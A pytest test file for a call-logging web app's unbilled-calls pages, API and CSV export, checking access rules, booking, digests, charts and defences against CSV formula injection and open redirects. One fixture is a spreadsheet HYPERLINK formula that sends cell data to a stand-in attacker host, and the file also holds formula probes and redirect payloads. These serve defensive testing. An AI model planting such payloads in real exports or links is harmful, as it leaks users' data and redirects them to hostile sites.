"""The unbilled calls' pages, CSV and JSON API in a real app: who sees what, booking and
marking from the list, the digest on Today, and CSV that spreadsheets cannot run."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from offhook.app import Offhook
from offhook.calls.events import CallEvent, CallState, Direction, EndReason
from offhook.calls.recorder import record
from offhook.settings.config import Config
from offhook.store import Store
from offhook.store.models import NotBillable, Service
from offhook.web.app import create_app
from offhook.web.export import csv_text, safe_cell
from tests import factories
from tests.web.conftest import log_in

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@dataclass
class World:
    store: Store
    client: TestClient
    anna: int
    ben: int
    project: int
    calls: dict[str, int]


def make_call(
    store: Store, line_id: int, ref: str, start: datetime, name: str = "", minutes: int = 4
) -> int:
    events = [
        CallEvent(line_id, ref, Direction.INCOMING, CallState.RINGING, start, "+41446681812", name),
        CallEvent(
            line_id, ref, Direction.INCOMING, CallState.CONNECTED, start + timedelta(seconds=5)
        ),
        CallEvent(
            line_id,
            ref,
            Direction.INCOMING,
            CallState.ENDED,
            start + timedelta(seconds=5, minutes=minutes),
            end_reason=EndReason.ANSWERED,
        ),
    ]
    with store.session() as session:
        for event in events:
            change = record(session, event)
        return change.call_id


@pytest.fixture
def world(store: Store, tmp_path: Path) -> Iterator[World]:
    tel = factories.service_type(store)
    factories.telephony(store, timezone="Europe/Zurich", service_type_id=tel.id)
    anna, anna_line = factories.user_with_line(store, "anna", role="admin")
    ben, ben_line = factories.user_with_line(store, "ben", role="user")
    contact = factories.address(store)
    project = factories.project(store, "P-101", customer_id=contact.company_id)
    now = datetime.now(UTC).replace(microsecond=0)
    last_week = now - timedelta(days=now.weekday() + 4)
    calls = {
        "anna": make_call(store, anna_line.id, "a1", now - timedelta(hours=1), EVIL),
        "ben": make_call(store, ben_line.id, "b1", now - timedelta(hours=2), minutes=12),
        "ben-last-week": make_call(store, ben_line.id, "b2", last_week, minutes=20),
    }
    offhook = Offhook(Config(data_dir=tmp_path), store)
    with TestClient(create_app(offhook), follow_redirects=False) as client:
        yield World(store, client, anna.id, ben.id, project.id, calls)


def listed(html: str) -> set[int]:
    return {int(found) for found in re.findall(r'data-call="(\d+)"', html)}


def test_users_see_only_their_own_calls_administrators_anybodys(world: World) -> None:
    client, calls = world.client, world.calls
    log_in(client, "ben")
    for query in ("", "?of=all", f"?of={world.anna}"):
        page = client.get(f"/unbilled{query}")
        assert page.status_code == 200
        assert listed(page.text) == {calls["ben"], calls["ben-last-week"]}
        api = client.get(f"/api/unbilled{query}").json()
        assert {c["entry"]["id"] for c in api["calls"]} == listed(page.text)
        figures = client.get(f"/api/unbilled/figures{query}").json()
        assert figures["user_id"] == world.ben and "users" not in figures["charts"]
        exported = client.get(f"/unbilled.csv{query}").text.lstrip("\ufeff")
        rows = list(csv.DictReader(io.StringIO(exported)))
        assert {row["user"] for row in rows} == {"Ben"} and len(rows) == 2
    assert (
        client.post(
            f"/unbilled/{calls['anna']}/not-billable",
            data={"csrf_token": log_in(client, "ben"), "reason": "not mine"},
        ).status_code
        == 404
    )
    client.post("/logout", data={"csrf_token": log_in(client, "ben")})

    log_in(client, "anna")
    assert listed(client.get("/unbilled").text) == {calls["anna"]}
    assert listed(client.get("/unbilled?of=all").text) == set(calls.values())
    assert listed(client.get(f"/unbilled?of={world.ben}").text) == {
        calls["ben"],
        calls["ben-last-week"],
    }
    firm = client.get("/api/unbilled/figures?of=all").json()
    assert firm["user_id"] is None
    assert {row[0] for row in firm["charts"]["users"]["rows"]} == {"Anna", "Ben"}
    # An administrator looks at others' calls, but books and marks only their own.
    page = client.get(f"/unbilled?of={world.ben}").text
    assert "Book service" not in page and "’s to book" in page


def test_marking_not_billable_takes_the_row_off_and_shows_in_the_history(world: World) -> None:
    client, call = world.client, world.calls["ben"]
    csrf = log_in(client, "ben")
    response = client.post(
        f"/unbilled/{call}/not-billable",
        data={"csrf_token": csrf, "reason": "Courtesy call", "back": "https://evil.example/"},
    )
    assert response.status_code == 303 and response.headers["location"] == "/unbilled"
    assert call not in listed(client.get("/unbilled").text)
    history = client.get("/calls").text
    assert "Not billable" in history
    shown = client.get(f"/calls/{call}").text
    assert "not billable" in shown and "Courtesy call" in shown
    entry = client.get("/api/journal").json()
    ours = [e for e in entry["entries"] if e["id"] == call]
    assert ours and ours[0]["not_billable"] is True
    # Undone: back on the list.
    assert client.post(f"/unbilled/{call}/billable", data={"csrf_token": csrf}).status_code == 303
    assert call in listed(client.get("/unbilled").text)
    with world.store.session() as session:
        assert session.scalar(select(NotBillable)) is None


def test_booking_from_the_list_returns_to_it_without_the_row(world: World) -> None:
    client, call = world.client, world.calls["ben"]
    csrf = log_in(client, "ben")
    page = client.get("/unbilled").text
    link = re.search(r'href="(/services/new\?call=' + str(call) + r'[^"]*)"', page)
    assert link, "no booking link for the call"
    url = link.group(1).replace("&amp;", "&")
    assert f"project={world.project}" in url  # the client's only project, preselected
    form = client.get(url).text
    values = dict(re.findall(r'<input[^>]*name="(\w+)"[^>]*value="([^"]*)"', form))
    assert values["start"] and values["end"] and values["back"] == "/unbilled"
    selected = re.search(r'<option value="(\d+)" selected', form)
    assert selected is not None
    fields = {k: v for k, v in values.items() if k in ("call_id", "day", "start", "end", "back")}
    response = client.post(
        "/services/new",
        data={
            **fields,
            "csrf_token": csrf,
            "project_id": str(world.project),
            "text": "Advice",
            "service_type_id": selected.group(1),
            "minutes": "",
        },
    )
    assert response.status_code == 303, response.text
    assert response.headers["location"] == "/unbilled"
    assert call not in listed(client.get("/unbilled").text)
    with world.store.session() as session:
        service = session.scalar(select(Service).where(Service.call_id == call))
        assert service is not None and service.minutes == 15  # 12 min 0 s, in steps of 15
    journal = client.get("/api/journal").json()["entries"]
    assert [e["service_id"] for e in journal if e["id"] == call] == [service.id]


def test_the_digest_on_today_sums_last_week(world: World) -> None:
    log_in(world.client, "ben")
    page = world.client.get("/").text
    digest = re.search(r"<p class=\"stat-line\" data-digest>(.*?)</p>", page, re.S)
    assert digest is not None
    text = re.sub(r"<[^>]+>", "", digest.group(1))
    assert text == "20 min on the phone with clients, 0 min booked; 1 call unbooked."
    assert 'href="/unbilled?from=' in digest.group(1)


def test_charts_are_svg_with_their_numbers_as_tables(world: World) -> None:
    log_in(world.client, "anna")
    page = world.client.get("/unbilled/charts?of=all")
    assert page.status_code == 200
    html = page.text.split("<main")[1].split("</main>")[0]
    assert html.count('<svg class="chart"') == 6 and html.count("<table") >= 6
    assert 'role="img"' in html and "<desc" in html and "style=" not in html
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)  # no inline script
    weeks = world.client.get("/unbilled/charts/weeks.csv?of=all")
    assert weeks.status_code == 200 and weeks.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(weeks.text.lstrip("\ufeff"))))
    assert rows[0][0] == "week from" and sum(int(r[1]) for r in rows[1:]) == 3
    assert world.client.get("/unbilled/charts/nothing.csv").status_code == 404


def test_csv_cannot_smuggle_formulas_into_spreadsheets(world: World) -> None:
    log_in(world.client, "anna")
    exported = world.client.get("/unbilled.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0][0] == "call id"
    names = [row[6] for row in rows[1:]]
    assert names == ["'" + EVIL]
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert str(safe_cell(text)).startswith("'")
    assert safe_cell(-5) == -5 and safe_cell("Müller") == "Müller"
    assert csv_text(["a"], [["=x"]]) == "a\r\n'=x\r\n"


def test_safe_redirects_only() -> None:
    from offhook.web.pages.unbilled import _safe_back

    assert _safe_back("/unbilled?of=all", "/x") == "/unbilled?of=all"
    for bad in ("//evil.example", "https://evil.example", "/\\evil.example"):
        assert _safe_back(bad, "/x") == "/x"
